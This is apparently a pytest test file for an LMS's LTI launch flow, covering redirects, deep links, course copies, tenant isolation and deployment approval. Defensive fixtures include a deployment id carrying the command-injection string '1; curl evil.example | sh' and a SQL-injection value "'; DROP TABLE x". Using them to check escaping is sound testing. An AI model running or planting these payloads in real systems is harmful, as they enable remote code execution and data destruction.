"""Where a launch leads to, for whom, and what it leaves in the database."""

import dataclasses
import threading
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import AbstractContextManager
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import func, select, update
from werkzeug.test import TestResponse

from lmssocial.core.activity.models import ActivityEvent
from lmssocial.lms.identity.models import Course, Deployment, Membership, Registration, Standing, User
from lmssocial.lms.identity.refusals import DEPLOYMENT_DISABLED, DEPLOYMENT_PENDING, DEPLOYMENT_UNKNOWN
from lmssocial.lms.lti import causes, claims
from lmssocial.social.communities.models import Placement
from tests.fakes.platform import INSTRUCTOR, LEARNER, LEFT_OUT, MEMBERSHIP, KeySetServer
from tests.fakes.registered import make_tenant, register
from tests.front.launch.conftest import House
from tests.front.launch.outcomes import assert_let_in, assert_refused, outcome
from tests.support.queries import Queries

DISCUSSION = {claims.CUSTOM: {"widget": "discussion"}}
TEACHER = {claims.ROLES: [INSTRUCTOR], "sub": "teacher-1", "name": "Grace Hopper"}
SETTINGS = {
    "accept_types": ["ltiResourceLink"],
    "accept_presentation_document_targets": ["iframe"],
    "deep_link_return_url": "https://lms.example.edu/back",
}


def link(number: str, title: str = "Round one") -> dict[str, Any]:
    """The claim of a link of its own, so that tests do not meet."""
    return {claims.RESOURCE_LINK: {"id": number, "title": title}}


def course(number: str) -> dict[str, Any]:
    """The claim of a course of its own."""
    return {claims.CONTEXT: {"id": number, "title": f"Course {number}", "label": number}}


def follow(browser: FlaskClient, response: TestResponse) -> TestResponse:
    """Go where a launch leads."""
    assert response.status_code == 303, response.text
    return browser.get(response.location)


def test_a_learner_who_comes_too_early_reads_that_the_instructor_has_to_set_it_up(house: House) -> None:
    browser = house.browser()
    response = house.platform.launch(browser, **link("early"))
    page = follow(browser, response)
    assert page.status_code == 200
    assert "Your instructor has not set this activity up yet." in page.text
    assert "https://lms.example.edu/course/1" in page.text
    assert "frame-ancestors https://lms.example.edu" in page.headers["Content-Security-Policy"]
    stranger = house.browser().get(response.location)
    assert stranger.status_code == 401
    assert "Round one" not in stranger.text


def test_once_it_is_set_up_looking_again_leads_there(house: House) -> None:
    learner, teacher = house.browser(), house.browser()
    waiting = house.platform.launch(learner, **link("soon")).location
    assert learner.get(waiting).status_code == 200
    home = house.platform.launch(teacher, **TEACHER, **link("soon"), **DISCUSSION).location
    again = learner.get(waiting)
    assert (again.status_code, again.location) == (303, home)
    assert learner.get(home).status_code == 200


def test_an_address_of_no_link_says_so(house: House) -> None:
    assert house.browser().get("/lti/activity/999999").status_code == 404


def test_an_instructor_chooses_there_and_then(house: House) -> None:
    browser = house.browser()
    response = house.platform.launch(browser, **TEACHER, **link("empty"))
    assert response.location.startswith("/lti/picker/")
    page = follow(browser, response)
    assert page.status_code == 200
    assert "frame-ancestors https://lms.example.edu" in page.headers["Content-Security-Policy"]


def test_a_link_that_names_its_widget_is_placed_by_whoever_comes_first(house: House) -> None:
    learner, teacher = house.browser(), house.browser()
    first = house.platform.launch(learner, **link("named", "Ask anything"), **DISCUSSION)
    second = house.platform.launch(teacher, **TEACHER, **link("named", "Ask anything"))
    assert first.location == second.location
    page = follow(learner, first)
    assert page.status_code == 200
    assert "Ask anything" in page.text
    assert "Ada Lovelace" in page.text
    assert "frame-ancestors https://lms.example.edu" in page.headers["Content-Security-Policy"]


def test_a_link_that_names_a_widget_nobody_installed_waits_for_the_instructor(house: House) -> None:
    names = {claims.CUSTOM: {"widget": "crystal-ball"}}
    assert house.platform.launch(house.browser(), **link("ball"), **names).location.startswith(
        "/lti/activity/"
    )
    instructor = house.platform.launch(house.browser(), **TEACHER, **link("ball"), **names)
    assert instructor.location.startswith("/lti/picker/")


def test_a_launch_of_somebody_known_takes_few_statements(
    house: House, count_queries: Callable[[], AbstractContextManager[Queries]]
) -> None:
    browser, where = house.browser(), {**link("often", "Often"), **DISCUSSION}
    house.platform.launch(browser, **where)
    with count_queries() as login:
        begun = house.platform.begin(browser)
    token = house.platform.sign(house.platform.payload(begun.nonce, **where))
    with count_queries() as launch:
        house.platform.finish(browser, begun.state, token)
    assert len(login) == 2, login.statements
    assert len(launch) <= 17, launch.statements


def test_a_class_that_opens_a_new_link_at_once_meets_in_one_place(house: House) -> None:
    together = threading.Barrier(10)

    def launch(number: int) -> str:
        browser = house.browser()
        begun = house.platform.begin(browser)
        changes = {"sub": f"class-{number}", **link("rush", "Rush hour"), **course("rush"), **DISCUSSION}
        token = house.platform.sign(house.platform.payload(begun.nonce, **changes))
        together.wait(timeout=30)
        response = house.platform.finish(browser, begun.state, token)
        assert response.status_code == 303, response.text
        return response.location

    with ThreadPoolExecutor(10) as pool:
        assert len(set(pool.map(launch, range(10)))) == 1
    with house.rows() as session:
        assert session.scalar(select(func.count(Placement.id)).where(Placement.title == "Rush hour")) == 1


def placed(house: House, title: str, **where: Any) -> Placement:
    """A discussion placed by a link called ``title``."""
    house.platform.launch(house.browser(), **TEACHER, **link(f"of {title}", title), **where, **DISCUSSION)
    with house.rows() as session:
        return session.scalars(select(Placement).where(Placement.title == title)).one()


def test_a_deep_link_leads_to_the_placement_it_carries(house: House) -> None:
    original = placed(house, "Original")
    carries = {claims.CUSTOM: {"placement": original.uuid, "widget": "discussion"}}
    response = house.platform.launch(house.browser(), **link("deep-1"), **carries)
    assert response.location.startswith(f"/w/{original.id}/")


def test_what_an_instructor_chooses_anew_replaces_what_the_link_led_to(house: House) -> None:
    """Open edX and Moodle keep the link and its id when its content is selected again."""
    before, after = placed(house, "Chosen first"), placed(house, "Chosen later")
    for chosen in (before, after, after, before):
        carries = {claims.CUSTOM: {"placement": chosen.uuid, "widget": "discussion"}}
        response = house.platform.launch(house.browser(), **link("changed"), **carries)
        assert response.location.startswith(f"/w/{chosen.id}/")
    response = house.platform.launch(house.browser(), **link("changed"), **DISCUSSION)
    assert response.location.startswith(f"/w/{before.id}/")


def test_in_a_copied_course_the_settings_are_cloned_once_and_nothing_else(house: House) -> None:
    original = placed(house, "To be copied")
    carries = {claims.CUSTOM: {"placement": original.uuid, "widget": "discussion"}}
    browser = house.browser()
    copies = {
        house.platform.launch(browser, **course("copy"), **link(number), **carries).location
        for number in ("copied-1", "copied-2", "copied-1")
    }
    assert len(copies) == 1
    assert not copies.pop().startswith(f"/w/{original.id}/")
    with house.rows() as session:
        copy = session.scalars(select(Placement).where(Placement.copied_from_id == original.id)).one()
    assert (copy.title, copy.widget) == ("To be copied", "discussion")
    assert copy.community_id != original.community_id
    assert browser.get(f"/w/{original.id}/discussion/").status_code == 401


def test_a_copy_is_adopted_by_the_first_instructor_who_comes_and_by_no_learner(house: House) -> None:
    original = placed(house, "To be adopted")
    carries = {claims.CUSTOM: {"placement": original.uuid, "widget": "discussion"}}
    owners = []
    for person in ({}, TEACHER, {**TEACHER, "sub": "teacher-2"}):
        house.platform.launch(house.browser(), **course("adopted"), **link("adopted"), **carries, **person)
        with house.rows() as session:
            found = session.scalars(select(Placement).where(Placement.copied_from_id == original.id)).one()
            owner = session.scalar(select(User.sub).where(User.id == found.created_by_id))
        owners.append(owner)
    assert owners == [None, "teacher-1", "teacher-1"]


@pytest.mark.parametrize("uuid", ["", "nonsense", "00000000-0000-0000-0000-000000000000", "'; DROP TABLE x"])
def test_a_placement_nobody_made_is_none(house: House, uuid: str) -> None:
    carries = {claims.CUSTOM: {"placement": uuid}}
    response = house.platform.launch(house.browser(), **link(f"lost-{len(uuid)}"), **carries)
    assert response.location.startswith("/lti/activity/")


def test_a_placement_of_another_tenant_is_as_unknown_as_one_that_never_was(house: House) -> None:
    original = placed(house, "Secret of the first tenant")
    sister = house.another(client_id="client-sister")
    with house.rows() as session:
        register(session, sister, tenant=make_tenant(session, "Sister College"))
    carries = {claims.CUSTOM: {"placement": original.uuid}}
    response = sister.launch(house.browser(), **link("theft"), **carries)
    assert response.location.startswith("/lti/activity/")
    with house.rows() as session:
        assert (
            session.scalar(select(func.count(Placement.id)).where(Placement.copied_from_id == original.id))
            == 0
        )


def test_two_courses_in_one_browser_are_not_confused(house: House) -> None:
    browser = house.browser()
    teaches = house.platform.launch(
        browser, **TEACHER, **course("A"), **link("in A", "In course A"), **DISCUSSION
    ).location
    learns = house.platform.launch(
        browser, **course("B"), **link("in B", "In course B"), **DISCUSSION
    ).location
    in_a, in_b = browser.get(teaches), browser.get(learns)
    assert (in_a.status_code, in_b.status_code) == (200, 200)
    assert "Grace Hopper" in in_a.text
    assert "Ada Lovelace" not in in_a.text
    assert "Ada Lovelace" in in_b.text
    assert "Grace Hopper" not in in_b.text


def test_of_two_people_in_one_browser_and_course_the_later_one_is_there(house: House) -> None:
    browser = house.browser()
    where = {**course("shared"), **link("shared", "Shared"), **DISCUSSION}
    home = house.platform.launch(browser, **TEACHER, **where).location
    assert "Grace Hopper" in browser.get(home).text
    house.platform.launch(browser, **where)
    page = browser.get(home)
    assert "Ada Lovelace" in page.text
    assert "Grace Hopper" not in page.text


def test_another_browser_is_not_signed_in(house: House) -> None:
    home = house.platform.launch(house.browser(), **link("private", "Private"), **DISCUSSION).location
    assert house.browser().get(home).status_code == 401


def test_a_deep_linking_request_leads_an_instructor_to_the_picker(house: House) -> None:
    browser = house.browser()
    asks = {
        claims.MESSAGE_TYPE: "LtiDeepLinkingRequest",
        claims.DEEP_LINKING_SETTINGS: SETTINGS,
        claims.RESOURCE_LINK: LEFT_OUT,
    }
    response = house.platform.launch(browser, **TEACHER, **asks)
    assert response.location.startswith("/lti/picker/")
    assert follow(browser, response).status_code == 200


@pytest.mark.parametrize("role", [LEARNER, MEMBERSHIP + "Mentor", "http://example.com/roles#Instructor"])
def test_a_deep_linking_request_of_somebody_else_is_refused_inside_the_lms(house: House, role: str) -> None:
    asks = {
        claims.MESSAGE_TYPE: "LtiDeepLinkingRequest",
        claims.DEEP_LINKING_SETTINGS: SETTINGS,
        claims.RESOURCE_LINK: LEFT_OUT,
        claims.ROLES: [role],
    }
    response = house.platform.launch(house.browser(), **asks)
    assert response.status_code == 403
    assert "Only instructors and administrators of the course" in response.text
    assert "frame-ancestors https://lms.example.edu" in response.headers["Content-Security-Policy"]


def test_origins_an_administrator_added_may_frame_the_pages_too(build: Callable[..., House]) -> None:
    house = build()
    with house.rows() as session:
        session.execute(
            update(Registration).values(frame_origins={"origins": ["https://vanity.example.edu"]})
        )
    browser = house.browser()
    page = follow(browser, house.platform.launch(browser))
    policy = page.headers["Content-Security-Policy"]
    assert "frame-ancestors https://lms.example.edu https://vanity.example.edu" in policy


def test_an_unknown_deployment_waits_until_somebody_approves_it(build: Callable[..., House]) -> None:
    house = build()
    house.platform.deployment_id = "new-7"
    for cause in (DEPLOYMENT_UNKNOWN, DEPLOYMENT_PENDING):
        found = outcome(lambda: house.platform.launch(house.browser()))
        assert_refused(found, cause)
        assert "lmssocial platforms approve 1 --deployment-id new-7" in found.response.text
        assert "frame-ancestors https://lms.example.edu" in found.response.headers["Content-Security-Policy"]
    with house.rows() as session:
        assert session.scalar(select(func.count(User.id))) == 0, "nothing of the person is kept"
        noted = session.scalars(select(Deployment).where(Deployment.deployment_id == "new-7")).one()
        assert noted.standing is Standing.PENDING
        noted.standing = Standing.APPROVED
    assert_let_in(outcome(lambda: house.platform.launch(house.browser())))
    with house.rows() as session:
        session.execute(update(Deployment).values(standing=Standing.DISABLED))
    assert_refused(outcome(lambda: house.platform.launch(house.browser())), DEPLOYMENT_DISABLED)


def test_a_deployment_cannot_name_itself_into_a_shell(house: House) -> None:
    hostile = house.another(deployment_id="1; curl evil.example | sh")
    found = outcome(lambda: hostile.launch(house.browser()))
    assert_refused(found, DEPLOYMENT_UNKNOWN)
    assert "--deployment-id &#39;1; curl evil.example | sh&#39;" in found.response.text


def test_joining_a_course_is_recorded_once(build: Callable[..., House]) -> None:
    house = build()
    for _ in range(2):
        house.platform.launch(house.browser())
    house.platform.launch(house.browser(), **TEACHER)
    with house.rows() as session:
        events = session.scalars(
            select(ActivityEvent)
            .where(ActivityEvent.name == "identity.course_joined")
            .order_by(ActivityEvent.id)
        ).all()
        people = {user.sub: user.id for user in session.scalars(select(User))}
        assert session.scalar(select(func.count(Membership.id))) == 2
        (only_course,) = session.scalars(select(Course))
    assert [(event.actor_id, event.actor_role) for event in events] == [
        (people["person-7"], "learner"),
        (people["teacher-1"], "instructor"),
    ]
    assert {event.course_id for event in events} == {only_course.id}
    assert None not in {event.community_id for event in events}


def test_while_the_lms_does_not_answer_a_first_launch_is_asked_to_wait(build: Callable[..., House]) -> None:
    house = build()
    with KeySetServer() as away:
        down = house.another(client_id="client-down", jwks_url=away.url)
    with house.rows() as session:
        register(session, down, deployments=[("1", Standing.APPROVED)])
    found = outcome(lambda: down.launch(house.browser()))
    assert_refused(found, causes.KEYS_UNAVAILABLE)
    assert found.response.headers["Retry-After"] == "60"
    assert away.url in found.logged["detail"]


def test_an_lms_that_is_an_hour_off_is_told_so_and_one_minute_does_not_matter(house: House) -> None:
    browser = house.browser()
    begun = house.platform.begin(browser)
    usual = house.platform.payload(begun.nonce)
    hour_off = {"iat": usual["iat"] - 3600, "exp": usual["exp"] - 3600}
    token = house.platform.sign(usual | hour_off)
    response = house.platform.finish(browser, begun.state, token)
    assert response.status_code == 401
    assert "Your LMS&#39;s clock and ours differ by more than a minute" in response.text
    minute_off = {"iat": usual["iat"] - 58, "exp": usual["exp"] - 58}
    assert_let_in(outcome(lambda: house.platform.launch(house.browser(), **minute_off)))


def test_without_names_people_are_told_apart_and_nothing_gives_them_away(house: House) -> None:
    nameless = {"name": LEFT_OUT, "given_name": LEFT_OUT, "family_name": LEFT_OUT}
    where = {**link("quiet", "Quiet"), **course("quiet"), **DISCUSSION}
    seen = set()
    for number in range(3):
        browser = house.browser()
        person = {"sub": f"quiet-{number}", "email": f"quiet-{number}@example.edu"}
        page = follow(browser, house.platform.launch(browser, **nameless, **person, **where))
        assert f"quiet-{number}" not in page.text
        with house.rows() as session:
            seen.add(session.scalars(select(User.name).where(User.sub == f"quiet-{number}")).one())
    assert len(seen) == 3


def test_the_platform_of_a_launch_is_the_one_of_its_login_not_of_its_address(
    build: Callable[..., House],
) -> None:
    """Two tenants with the same issuer and client id: each login address leads into its own tenant."""
    house = build()
    sister = dataclasses.replace(house.platform, deployment_id="sister-1")
    with house.rows() as session:
        registration = register(session, sister, tenant=make_tenant(session, "Sister College"))
        sister.login_path, tenant_id = f"/lti/login/{registration.public_key}", registration.tenant_id
    assert_let_in(outcome(lambda: house.platform.launch(house.browser())))
    assert_let_in(outcome(lambda: sister.launch(house.browser())))
    with house.rows() as session:
        people = session.scalars(select(User).order_by(User.id)).all()
        assert [user.sub for user in people] == ["person-7", "person-7"]
        assert len({user.tenant_id for user in people}) == 2
        assert people[1].tenant_id == tenant_id
